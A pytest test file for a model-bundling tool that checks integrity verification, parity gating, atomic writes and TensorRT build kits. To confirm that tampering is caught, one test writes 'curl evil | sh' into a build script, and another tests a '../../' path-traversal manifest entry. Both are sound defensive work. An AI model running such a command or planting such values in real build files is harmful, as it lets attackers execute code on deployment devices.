"""Bundles: what `bundle` writes, that `verify` catches any changed byte (exit 4) and drift (exit 1),
that failed or stale parity is not shipped silently, that bundling is atomic, and the TensorRT
build-kit path. Everything is real: real artifacts, real files changed on disk."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from edgetransfer.bundle import MANIFEST, manifest_bytes, read_manifest, verify_bundle, write_bundle
from edgetransfer.cli import main
from edgetransfer.errors import IntegrityError, UsageError
from edgetransfer.fsutil import sha256_file
from edgetransfer.stages import as_target, compiled_artifact, target_backend
from edgetransfer.validate import held_out_samples, run_all
from edgetransfer.spec import RunMeta


def _copy(bundle: Path, tmp_path: Path) -> Path:
    dst = tmp_path / bundle.name
    shutil.copytree(bundle, dst)
    return dst


def _rewrite_manifest(folder: Path, **changes) -> None:
    """Change manifest fields and re-sign it the way `write_bundle` does (a deliberate, consistent edit)."""
    body = json.loads((folder / MANIFEST).read_text())
    body.update(changes)
    (folder / MANIFEST).write_bytes(manifest_bytes(body))


def test_round_trip_infer_gives_the_classes_validate_saw(shipped_run, bundles, tmp_path):
    """bundle → verify → infer on the held-out images: the same classes the validated artifact gave."""
    target = "intel-cpu"
    # the shared bundles are made with allow_failed (a 2-epoch model): verify accepts that only when told
    assert CliRunner().invoke(main, ["verify", str(bundles[target])]).exit_code == (
        1 if read_manifest(bundles[target])["parity"]["passed"] is False else 0)
    result = CliRunner().invoke(main, ["verify", str(bundles[target]), "--allow-failed"])
    assert result.exit_code == 0, result.output
    assert "match their sha256" in result.output and "golden set" in result.output

    meta = RunMeta.load(shipped_run / "meta.json")
    samples, _ = held_out_samples(meta, None)
    tgt = as_target(target)
    with target_backend(tgt).load(compiled_artifact(shipped_run, tgt), tgt) as runner:
        logits, labels = run_all(samples, meta.input_spec, {"deployed": runner}, batch_size=1)
    expected = {s.path.as_posix(): meta.classes[i] for s, i in zip(samples, logits["deployed"].argmax(1))}

    folder = tmp_path / "held-out"
    for s in samples:  # the held-out images, by themselves, as they would reach the device
        (folder / s.path.parent.name).mkdir(parents=True, exist_ok=True)
        shutil.copy2(s.path, folder / s.path.parent.name / s.path.name)
    result = CliRunner().invoke(main, ["infer", str(bundles[f"{target}.tar.gz"]), str(folder)])
    assert result.exit_code == 0, result.output
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(records) == len(samples)
    got = {r["source"]: r["class"] for r in records}
    for s in samples:
        assert got[(folder / s.path.parent.name / s.path.name).as_posix()] == expected[s.path.as_posix()]
    # and the accuracy validate reported for the deployed artifact is what the device gets
    parity = json.loads((shipped_run / target / "parity.json").read_text())
    truth = {(folder / s.path.parent.name / s.path.name).as_posix(): meta.classes[s.label] for s in samples}
    accuracy = np.mean([got[k] == v for k, v in truth.items()])
    assert accuracy == pytest.approx(parity["summary"]["accuracy"])
    assert "cold start" in result.stderr


def test_manifest_records_what_the_device_needs(shipped_run, bundles):
    folder = bundles["x86-onnxruntime"]
    m = read_manifest(folder)
    meta = RunMeta.load(shipped_run / "meta.json")
    assert m["schema"] == 1 and m["target"]["name"] == "x86-onnxruntime"
    assert m["backend"] == "onnxruntime" and m["precision"] == "int8" and m["ran_as"] == "int8"
    assert m["classes"] == meta.classes and m["input_spec"] == meta.input_spec.to_dict()
    assert m["artifact"] == {"kind": "compiled", "path": "model/model.onnx",
                             "files": ["model/model.onnx", "model/session.json"]}
    assert {"python", "numpy", "onnxruntime", "torch"} <= set(m["toolchain"])
    assert m["training"]["backbone"] == "resnet18" and m["training"]["weights"] == "none"
    assert m["training"]["data_hash"] == meta.data["hash"]
    parity = json.loads((shipped_run / "x86-onnxruntime" / "parity.json").read_text())
    assert m["parity"]["passed"] == parity["passed"] and m["parity"]["summary"] == parity["summary"]
    files = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())
    assert files == sorted([MANIFEST, *m["files"]])
    for name, entry in m["files"].items():
        assert sha256_file(folder / name) == entry["sha256"]
    g = m["golden"]
    x = np.load(folder / g["inputs"], allow_pickle=False)
    assert x.dtype == np.float32 and x.shape == (g["count"], 3, 32, 32)
    assert np.load(folder / g["expected"], allow_pickle=False).shape == (g["count"], len(meta.classes))
    assert g["gates"]["min_agreement"] == 0.995


def test_any_changed_byte_is_exit_4(bundles, tmp_path):
    """Flip one byte at the start, middle and end of every file (manifest included): refused each time."""
    folder = _copy(bundles["x86-onnxruntime"], tmp_path)
    names = [MANIFEST, *read_manifest(folder)["files"]]
    for name in names:
        path = folder / name
        original = path.read_bytes()
        for offset in sorted({0, len(original) // 2, len(original) - 1}):
            changed = bytearray(original)
            changed[offset] ^= 0x01
            path.write_bytes(bytes(changed))
            with pytest.raises(IntegrityError) as info:
                verify_bundle(folder, hashes_only=True)
            assert info.value.exit_code == 4
            assert name in str(info.value) or (name == MANIFEST and MANIFEST in str(info.value)), (name, offset)
        path.write_bytes(original)
    assert verify_bundle(folder, hashes_only=True).files == len(names) - 1

    (folder / "model" / "model.onnx").write_bytes(b"\0" * 10)
    result = CliRunner().invoke(main, ["verify", str(folder)])
    assert result.exit_code == 4, result.output
    assert "model/model.onnx" in result.output and "sha256" in result.output


def test_extra_missing_and_linked_files_are_refused_by_name(bundles, tmp_path):
    folder = _copy(bundles["x86-onnxruntime"], tmp_path)
    (folder / "golden" / "extra.npy").write_bytes(b"x")
    with pytest.raises(IntegrityError, match="not listed in the manifest: golden/extra.npy"):
        verify_bundle(folder, hashes_only=True)
    (folder / "golden" / "extra.npy").unlink()
    os.rename(folder / "golden" / "labels.npy", tmp_path / "labels.npy")
    with pytest.raises(IntegrityError, match="missing: golden/labels.npy"):
        verify_bundle(folder, hashes_only=True)
    os.symlink(tmp_path / "labels.npy", folder / "golden" / "labels.npy")
    with pytest.raises(IntegrityError, match="not a regular file"):
        verify_bundle(folder, hashes_only=True)


def test_future_schema_and_resigned_edits(bundles, tmp_path):
    folder = _copy(bundles["x86-onnxruntime"], tmp_path)
    _rewrite_manifest(folder, schema=2)
    result = CliRunner().invoke(main, ["verify", str(folder)])
    assert result.exit_code == 4
    assert "manifest.json" in result.output and "schema" in result.output and "newer" in result.output

    # a re-signed manifest may still only point the runtime at files whose hashes it checks
    _rewrite_manifest(folder, schema=1, artifact={"kind": "compiled", "path": "../../model.onnx", "files": []})
    with pytest.raises(IntegrityError, match="artifact.path"):
        verify_bundle(folder, hashes_only=True)

    # an edit that re-signs the manifest is consistent, but no longer the bundle you were given
    folder = _copy(bundles["x86-onnxruntime"], tmp_path / "b")
    digest = read_manifest(folder)["manifest_sha256"]
    _rewrite_manifest(folder, classes=["a", "b", "c", "d", "e"])
    assert CliRunner().invoke(main, ["verify", str(folder), "--hashes-only", "--expect", digest]).exit_code == 4
    # (--allow-failed: whether the barely trained shared model passed its parity gates depends on the CPU)
    assert CliRunner().invoke(main, ["verify", str(bundles["x86-onnxruntime"]), "--hashes-only", "--allow-failed",
                                     "--expect", digest]).exit_code == 0


def test_outputs_that_drift_beyond_tolerance_are_exit_1(bundles, tmp_path):
    """The device answering differently from bundle time: expected outputs that disagree on top-1."""
    folder = _copy(bundles["x86-onnxruntime"], tmp_path)
    m = read_manifest(folder)
    expected_path = folder / m["golden"]["expected"]
    expected = np.load(expected_path)
    np.save(expected_path, np.roll(expected, 1, axis=1), allow_pickle=False)  # every top-1 moves
    files = dict(m["files"])
    files[m["golden"]["expected"]] = {"sha256": sha256_file(expected_path), "bytes": expected_path.stat().st_size}
    _rewrite_manifest(folder, files=files)
    result = CliRunner().invoke(main, ["verify", str(folder)])
    assert result.exit_code == 1, result.output
    assert "FAIL" in result.output and "agreement" in result.output


def test_failed_or_stale_parity_is_not_bundled_silently(shipped_run, tmp_path):
    run = tmp_path / "run"
    shutil.copytree(shipped_run, run, ignore=shutil.ignore_patterns("jetson-*", "intel-cpu"))
    parity_path = run / "x86-onnxruntime" / "parity.json"
    parity = json.loads(parity_path.read_text())
    parity["passed"] = False
    parity["pairs"][0]["failures"] = ["top-1 agreement 0.9 < 0.995"]
    parity_path.write_text(json.dumps(parity))
    out = tmp_path / "b"
    result = CliRunner().invoke(main, ["bundle", str(run), "--target", "x86-onnxruntime", "--out", str(out)])
    assert result.exit_code == 1 and "--allow-failed" in result.output and not out.exists()
    result = CliRunner().invoke(main, ["bundle", str(run), "--target", "x86-onnxruntime", "--out", str(out),
                                       "--allow-failed"])
    assert result.exit_code == 0, result.output
    assert "FAILED" in result.output
    m = read_manifest(out)
    assert m["parity"]["passed"] is False and m["parity"]["allowed_failed"] is True
    result = CliRunner().invoke(main, ["verify", str(out)])  # a script checking exit codes must not accept it
    assert result.exit_code == 1 and "parity FAILED at bundle time" in result.stderr
    result = CliRunner().invoke(main, ["verify", str(out), "--allow-failed"])
    assert result.exit_code == 0 and "parity FAILED at bundle time" in result.stderr

    compiled = run / "x86-onnxruntime" / "compiled.json"
    os.utime(compiled, (parity_path.stat().st_mtime + 10,) * 2)
    result = CliRunner().invoke(main, ["bundle", str(run), "--target", "x86-onnxruntime", "--out", str(tmp_path / "c")])
    assert result.exit_code == 2 and "validate again" in result.output


def test_bundling_is_atomic(shipped_run, bundles, tmp_path):
    out = tmp_path / "b"
    write_bundle(shipped_run, "x86-onnxruntime", out, allow_failed=True)
    before = read_manifest(out)["manifest_sha256"]
    result = CliRunner().invoke(main, ["bundle", str(shipped_run), "--target", "x86-onnxruntime", "--out", str(out)])
    assert result.exit_code == 2 and "--force" in result.output

    # a failure in the last step (the archive's name is taken by a folder): the old bundle stays whole
    Path(f"{out}.tar.gz").mkdir()
    with pytest.raises(OSError):
        write_bundle(shipped_run, "x86-onnxruntime", out, allow_failed=True, force=True, archive=True)
    assert read_manifest(out)["manifest_sha256"] == before
    assert verify_bundle(out, hashes_only=True, allow_failed=True).passed  # bundled with allow_failed
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b", "b.tar.gz"]  # no temporary leftovers

    run = tmp_path / "run"
    shutil.copytree(shipped_run, run, ignore=shutil.ignore_patterns("jetson-*", "intel-cpu"))
    (run / "x86-onnxruntime" / "model.onnx").unlink()  # compile output incomplete: refused, nothing written
    with pytest.raises(UsageError, match="model.onnx"):
        write_bundle(run, "x86-onnxruntime", tmp_path / "c", allow_failed=True)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b", "b.tar.gz", "run"]


def test_build_kit_bundle_checks_hashes_and_says_where_to_build(shipped_run, tmp_path):
    """A TensorRT target without an engine: the kit is bundled, its golden set comes from the QDQ ONNX."""
    run = tmp_path / "run"
    shutil.copytree(shipped_run, run, ignore=shutil.ignore_patterns("intel-cpu", "x86-onnxruntime"))
    kit_dir = run / "jetson-orin-nano"
    (kit_dir / "build_engine.sh").write_text("#!/bin/sh\ntrtexec --onnx=model.int8.onnx --int8 --fp16\n")
    (kit_dir / "BUILD_ON_DEVICE.md").write_text("Run build_engine.sh on the Jetson.\n")
    (kit_dir / "kit.json").write_text(json.dumps({
        "schema": 1, "kind": "tensorrt-build-kit", "target": "jetson-orin-nano",
        "files": ["model.int8.onnx", "build_engine.sh", "BUILD_ON_DEVICE.md"]}))
    out = tmp_path / "kit"
    result = CliRunner().invoke(main, ["bundle", str(run), "--target", "jetson-orin-nano", "--out", str(out),
                                       "--archive"])
    assert result.exit_code == 0, result.output
    m = read_manifest(out)
    assert m["artifact"]["kind"] == "build-kit" and m["parity"]["passed"] is None
    assert set(m["artifact"]["files"]) == {"model/kit.json", "model/model.int8.onnx", "model/build_engine.sh",
                                           "model/BUILD_ON_DEVICE.md"}
    assert m["golden"]["expected_from"].startswith("model.int8.onnx in onnxruntime")
    for path in (out, Path(f"{out}.tar.gz")):
        result = CliRunner().invoke(main, ["verify", str(path)])
        assert result.exit_code == 3, result.output
        assert "no engine in this bundle" in result.output and "build_engine.sh" in result.output
    assert CliRunner().invoke(main, ["verify", str(out), "--hashes-only"]).exit_code == 0
    (out / "model" / "build_engine.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert CliRunner().invoke(main, ["verify", str(out)]).exit_code == 4
    assert CliRunner().invoke(main, ["infer", str(Path(f"{out}.tar.gz")), str(run)]).exit_code == 3


def test_archive_opens_and_frames_come_from_the_manifest_spec(bundles):
    from edgetransfer.runtime import open_bundle

    with open_bundle(bundles["intel-cpu.tar.gz"]) as model:
        assert model.digest == read_manifest(bundles["intel-cpu"])["manifest_sha256"]
        assert model.input_spec.height == 32 and model.classes == read_manifest(bundles["intel-cpu"])["classes"]
        extracted = model.folder
        assert extracted.is_dir()
    assert not extracted.exists()  # the temporary extraction goes with the model
